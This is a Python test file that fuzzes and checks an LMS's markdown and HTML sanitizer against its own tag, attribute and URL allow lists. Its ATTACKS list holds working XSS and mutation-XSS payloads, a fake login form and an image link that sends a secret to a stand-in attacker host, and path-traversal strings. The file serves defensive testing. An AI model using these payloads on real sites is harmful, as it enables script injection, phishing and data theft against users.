"""Whatever goes in, only what this file's own allow list names comes out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lms.courses.markdown import plain_text, render_imported_html, render_lesson, render_reply
from lms.courses.markdown.cleaning import cleaner_for_lessons, cleaner_for_replies

PREFIX = "/north/media/12/"

TEXT_TAGS = set(
    """
    a abbr b blockquote br cite code dd del dfn div dl dt em h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp
    small span strong sub sup table tbody td tfoot th thead tr u ul var
    """.split()  # noqa: SIM905
)
LESSON_TAGS = TEXT_TAGS | {"caption", "details", "figcaption", "figure", "img", "summary"}
MATH_TAGS = set(
    """
    math menclose merror mfenced mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms
    mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover semantics
    """.split()  # noqa: SIM905
)
MATH_ATTRIBUTES = set(
    """
    width height depth lspace rspace voffset minsize maxsize linethickness accent accentunder columnlines
    columnspacing display displaystyle fence form frame largeop mathvariant movablelimits notation rowlines
    rowspacing scriptlevel separator stretchy symmetric class lang dir
    """.split()  # noqa: SIM905
)
ATTRIBUTES = {
    "a": {"href", "rel"},
    "abbr": {"title"},
    "code": {"class"},
    "div": {"class", "tabindex"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"class"},
    "td": {"class", "colspan", "rowspan"},
    "th": {"class", "colspan", "rowspan", "scope"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}


class Inspector(HTMLParser):
    """Collects every element, attribute and address of a piece of HTML that is outside the allow list."""

    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.tags = tags
        self.refused: list[object] = []
        self.links: list[dict[str, str | None]] = []
        self.pictures: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = MATH_ATTRIBUTES if tag in MATH_TAGS else ATTRIBUTES.get(tag, set()) | {"lang", "dir"}
        if tag not in self.tags | MATH_TAGS:
            self.refused.append(tag)
        self.refused += [(tag, name, value) for name, value in attrs if name not in allowed]
        if tag == "a":
            self.links.append(dict(attrs))
        if tag == "img":
            self.pictures.append(dict(attrs))

    def handle_comment(self, data: str) -> None:
        self.refused.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.refused.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        self.refused.append(("declaration", data))

    def handle_pi(self, data: str) -> None:
        self.refused.append(("instruction", data))


def inspected(html: str, tags: set[str]) -> Inspector:
    inspector = Inspector(tags)
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_safe_lesson(html: str) -> None:
    seen = inspected(html, LESSON_TAGS)
    ours = re.escape(PREFIX) + r"(?!.*(^|/)\.\.(/|$))[^:\\?#]+(#.*)?"
    assert seen.refused == []
    assert [p for p in seen.pictures if "src" in p and not re.fullmatch(ours, p["src"])] == []
    assert [
        link
        for link in seen.links
        if "href" in link
        and not re.fullmatch(rf"{ours}|#section-.*|https?://[a-z0-9].*|mailto:.+", link["href"], re.I | re.S)
    ] == []
    assert [link for link in seen.links if link["rel"] != "noopener noreferrer"] == []


def assert_safe_reply(html: str) -> None:
    seen = inspected(html, TEXT_TAGS)
    assert seen.refused == []
    assert [x for x in seen.links if not re.match(r"https?://[a-z0-9]|mailto:.", x.get("href") or "", re.I)] == []
    assert [x for x in seen.links if x["rel"] != "noopener noreferrer nofollow"] == []


ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form action=https://evil.example><input name=password><button formaction=//evil.example>Sign in</button></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<p style="position:fixed;inset:0" onclick="alert(1)" class="modal" id="tutor">x</p>',
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><object data=x></object><embed src=x>",
    "<![CDATA[<script>alert(1)</script>]]><!-- <script> --><?php echo 1 ?><!doctype html>",
    "![a](https://evil.example/?q=secret) ![b](//evil.example/x) ![c](data:image/svg+xml;base64,x)",
    "![up](../../other/x.png) ![up](%2e%2e/x) ![up](a/..%2f..%2fx) ![root](/etc/passwd) ![back](a\\..\\x)",
    "[x](javascript:alert(1)) [x](vbscript:x) [x](data:text/html,x) [x](//evil.example) [x](https:evil.example)",
    "[x](https://good.example@evil.example) [x](https://evil.example\\@good.example) <javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x} \style{position:fixed}{x} \class{modal}{x} \text{<script>alert(1)</script>}$",
    r"$\color{red}{x} \hspace{9999em} \raise{-99em}{x} \unicode{x3c}script\unicode{x3e}$",
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    '![x" onerror="alert(1)](images/x.png "t\\" onload=\\"alert(1)")',
    "| a |\n|:-:|\n| <script> |",
    "\ud800 <b>\ud83d</b>",
]

FRAGMENTS = r"""< > " ' </ /> <!-- --> ` $ $$ ![ ]( ) - # | ** ~~ \ &lt; &#x3c; javascript: https://evil.example/
    images/a.png
    <math> <mtext> <table> <td> <p> <a href= <style> <svg> <select> <title> onload=x <pre> <h1> <li> </a> </math>"""
pieces = st.sampled_from([*ATTACKS, "\x00", "\n", "\n\n", " ", "> ", *FRAGMENTS.split()])
untrusted = st.one_of(st.text(), st.lists(st.one_of(pieces, st.text(max_size=8)), max_size=12).map("".join))


@pytest.mark.parametrize("source", ATTACKS)
def test_attacks_come_out_harmless(source: str) -> None:
    assert_safe_lesson(render_lesson(source, media_prefix=PREFIX))
    assert_safe_lesson(render_imported_html(source, media_prefix=PREFIX))
    assert_safe_reply(render_reply(source))


@given(untrusted)
def test_no_lesson_gets_anything_else_through(source: str) -> None:
    assert_safe_lesson(render_lesson(source, media_prefix=PREFIX))


@given(untrusted)
def test_no_imported_page_gets_anything_else_through(source: str) -> None:
    assert_safe_lesson(render_imported_html(source, media_prefix=PREFIX))


@given(untrusted)
def test_no_reply_gets_anything_else_through(source: str) -> None:
    assert_safe_reply(render_reply(source))


@given(untrusted)
def test_what_was_cleaned_once_stays_as_it_is(source: str) -> None:
    reply = render_reply(source)
    assert cleaner_for_replies().clean(reply) == reply
    lesson = render_lesson(source, media_prefix=PREFIX)
    assert cleaner_for_lessons(PREFIX).clean(lesson) == lesson


@given(untrusted)
@example("<pre>\n\nx</pre>")
def test_plain_text_of_anything_has_no_blank_paragraphs(source: str) -> None:
    for text in (plain_text(source, format="markdown"), plain_text(source, format="html")):
        assert text == text.strip("\n")


def test_a_page_nested_beyond_reason_is_shown_as_its_words() -> None:
    source = "<div>" * 100_000 + "deep"
    assert render_imported_html(source, media_prefix=PREFIX).strip() == "deep"
    assert plain_text(source, format="html").strip() == "deep"
